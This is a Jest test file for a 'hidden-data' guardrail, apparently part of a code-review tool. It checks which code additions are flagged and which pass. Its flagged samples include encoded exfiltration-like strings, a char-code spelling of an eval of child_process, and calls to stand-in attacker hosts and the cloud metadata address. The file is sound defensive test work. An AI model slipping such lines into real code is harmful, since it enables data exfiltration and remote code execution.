// Hidden data: blobs, spelled-out characters and strange addresses are refused; hashes in place, documentation hosts and what is known are not.
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: code of the judged files, not of ours.
import { expect, it } from '@jest/globals';
import fc from 'fast-check';
import { hiddenData } from '../../../src/stages/guardrails/hidden-data.ts';
import { judged } from './judged.ts';

const base64 = Buffer.from('GET /collect?token=abc HTTP/1.1 host attacker, as nobody may read it').toString('base64');
const hex = Buffer.from('curl attacker and run whatever it says, please').toString('hex');
const charCodes = [...'eval(require("child_process"))'].map((letter) => letter.charCodeAt(0));
const half = base64.length / 2;

it.each([
  ['src/a.js', `const a = '${base64}';`],
  ['src/a.js', `const a = '${base64.slice(0, half)}' + '${base64.slice(half)}';`],
  ['src/a.js', `const a =\n  '${base64.slice(0, 30)}' +\n  '${base64.slice(30, 60)}' +\n  '${base64.slice(60)}';`],
  ['src/a.py', `a = "${hex}"`],
  ['src/a.py', `# ${base64}`],
  ['src/a.js', `const a = [${charCodes.join(', ')}];`],
  ['src/a.js', "const a = '\\x65\\x76\\x61\\x6c\\x28\\x61\\x29\\x3b';"],
  ['src/a.js', "const a = '\\u0065\\u0076\\u0061\\u006c\\u0028\\u0061';"],
  ['src/a.js', `const a = '${'some words and more '.repeat(40)}';`],
  ['src/a.js', "get('https://collect.attacker.net/a');"],
  ['src/a.js', "get('//collect.attacker.net/a');"],
  ['src/a.js', 'get(`https://${a}.attacker.io/`); // or ask x.attacker.io'],
  ['src/a.py', 'get("wss://user:pass@attacker.xyz:8080")'],
  ['src/a.py', 'connect("45.33.32.156")'],
  ['src/a.py', 'connect("169.254.169.254")'],
  ['src/a.py', 'connect("http://[2001:db8:1::1]/")'],
  ['src/a.py', 'host = "attacker.onion"'],
  ['src/a.py', '# see http://attacker.net/help'],
  ['src/a.py', 'owner = "somebody@attacker.net"'],
  ['test/a_test.py', 'get("https://attacker.net")'],
])('%s: %s is refused', async (path, text) => {
  expect(await judged(hiddenData, path, 'x = 1\n', `x = 1\n${text}\n`)).toMatchObject([
    { rule: 'hidden-data', line: expect.any(Number) },
  ]);
});

it.each([
  ['src/a.js', "get('https://example.com/a');"],
  ['src/a.js', "get('http://localhost:3000/a');"],
  ['src/a.py', 'connect("127.0.0.1", 80)'],
  ['src/a.py', 'connect("192.0.2.1", 80)'],
  ['src/a.py', '# see https://developer.mozilla.org/en-US/docs/Web'],
  ['src/a.py', 'version = "1.2.3"'],
  ['src/a.py', 'mail("a@example.com")'],
  ['src/a.js', 'const isTheLongestIdentifierThatAnybodyEverWrote = calculateTheTotalAmountOfEverything();'],
  ['src/a.js', "import { a } from '../some/very/long/path/to/a/module/that/is/far/away.js';"],
  ['src/a.js', "user.name.first = order.items.map((item) => item.name).join('.');"],
  ['src/a.js', 'const steps = [10, 20, 30, 40, 50, 60, 70, 80, 90, 100, 110, 120, 130, 140, 150, 160, 170];'],
  ['src/a.js', "const letters = 'ABCDEFGHIJKLMNOPQRSTUVWXYZABCDEFGHIJKLMNOPQR';"],
  ['src/a.js', "const flag = '\\u{1F1E9}\\u{1F1EA}';"],
  ['test/a.test.js', `expect(sha256('a')).toBe('${'0a1b2c3d4e5f6789'.repeat(4)}');`],
  ['test/a.test.js', "expect(isPrivate('10.0.0.1')).toBe(true);"],
  ['test/a.test.js', "expect(parse('b@c.de').host).toBe('c');"],
  ['src/a.go', 'const layout = "2006-01-02T15:04:05Z07:00"'],
])('%s: %s is honest', async (path, text) => {
  expect(await judged(hiddenData, path, 'x = 1\n', `x = 1\n${text}\n`)).toEqual([]);
});

it('knows what the sources say, not what a log says', async () => {
  const sources = { 'src/config.js': "export const host = 'api.shop.net';" };
  const line = "get('https://api.shop.net/v2');\n";
  expect(await judged(hiddenData, 'src/a.js', '', line, { sources })).toEqual([]);
  const excerpt = 'connect to https://api.shop.net failed';
  expect(await judged(hiddenData, 'src/a.js', '', line, { evidence: { excerpt } })).toHaveLength(1);
});

it('never throws, whatever the text', async () => {
  const text = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 300 }),
    fc
      .array(fc.constantFrom('http://', 'a.', '"', '+', '\\x65', '1,', 'com', '@', '\n'))
      .map((parts) => parts.join('')),
  );
  await fc.assert(
    fc.asyncProperty(fc.constantFrom('a.js', 'a.py', 'a.md'), text, text, async (path, before, after) => {
      expect(Array.isArray(await judged(hiddenData, path, before, after))).toBe(true);
    }),
    { seed: 5, numRuns: 40 },
  );
});
